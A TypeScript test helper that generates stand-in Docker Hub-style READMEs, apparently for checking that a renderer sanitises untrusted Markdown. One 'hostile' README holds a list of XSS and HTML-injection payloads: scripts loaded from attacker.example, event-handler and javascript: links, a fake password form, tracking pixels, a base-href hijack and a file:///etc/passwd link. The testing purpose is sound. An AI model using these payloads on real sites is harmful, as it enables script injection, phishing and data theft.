/** READMEs of the stand-in, one like those of official images and one that tries everything. */
import { hostilePath, type StandInRepository } from './catalogue.ts'

const nameOf = ({ path }: StandInRepository): string => path.replace(/^library\//, '')

const variantsOf = (name: string): string => `## Image Variants

The \`${name}\` images come in many flavors, each designed for a specific use case.

### \`${name}:<version>\`

This is the defacto image. If you are unsure about what your needs are, you probably want to use this one.

### \`${name}:<version>-alpine\`

This image is based on the popular [Alpine Linux project](https://alpinelinux.org), and is much smaller.

### \`${name}:<version>-slim\`

This image does not contain the common packages contained in the default tag.
`

const ordinaryReadme = (repository: StandInRepository): string => {
  const name = nameOf(repository)
  return `# Quick reference

- **Maintained by**: [the people behind ${name}](https://example.com/${name})
- **Where to get help**: [the forum](https://forums.example.com/c/${name})

# Supported tags and respective \`Dockerfile\` links

- [\`latest\`, \`alpine\`](https://example.com/${name}/Dockerfile)

# What is ${name}?

${repository.description}

![logo](https://example.com/images/${name}/logo.png)

# How to use this image

\`\`\`console
$ docker run --name some-${name} -d ${name}:latest
\`\`\`

| Variable | Default | What it does |
| --- | --- | --- |
| \`${name.toUpperCase().replaceAll(/\W/g, '_')}_PORT\` | \`8080\` | The port to listen on |
| \`TZ\` | \`UTC\` | The time zone |

${repository.badge === 'official' ? variantsOf(name) : ''}
# License

View [license information](https://example.com/${name}/license) for the software contained in this image.
`
}

const attacks = `# Free pulls

<script>document.title = 'owned'</script>
<script src="https://attacker.example/steal.js"></script>
<svg onload="document.title='owned'"><script>document.title = 'owned'</script><animate onbegin="alert(1)"/></svg>
<iframe src="https://attacker.example/"></iframe>
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x">
<style>body { display: none } @import url(https://attacker.example/track.css);</style>
<link rel="stylesheet" href="https://attacker.example/track.css">
<meta http-equiv="refresh" content="0; url=https://attacker.example/">
<base href="https://attacker.example/">
<img src="x" onerror="document.title='owned'">
<a href="javascript:document.title='owned'">click me</a>
<a href="data:text/html,<script>document.title='owned'</script>">or me</a>
<a href="file:///etc/passwd" target="_top">or me</a>
<form action="https://attacker.example/login"><input name="password" type="password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;background:url(https://attacker.example/track.png)" class="lading">over everything</div>
<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<details open ontoggle="alert(1)"><summary>more</summary>raw HTML that may stay</details>

[a link](javascript:alert%281%29) [another](JaVaScRiPt:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:x)

![tracker](https://attacker.example/pixel.gif?who=you) ![inline](data:image/svg+xml,<svg%20onload=alert(1)>)

[ref]: javascript:alert(1)
[a reference][ref] <javascript:alert(1)>

`

const longestReadme = 25_000

const hostileReadme = (): string => {
  const row = `| ${'cell | '.repeat(20)}\n`
  const table = row + `| ${'--- | '.repeat(20)}\n` + row.repeat(200)
  return (attacks + table).slice(0, longestReadme)
}

/** The README of a repository, in Markdown; 25,000 characters at most, as Hub has it. */
export const readmeOf = (repository: StandInRepository): string =>
  repository.path === hostilePath ? hostileReadme() : ordinaryReadme(repository)
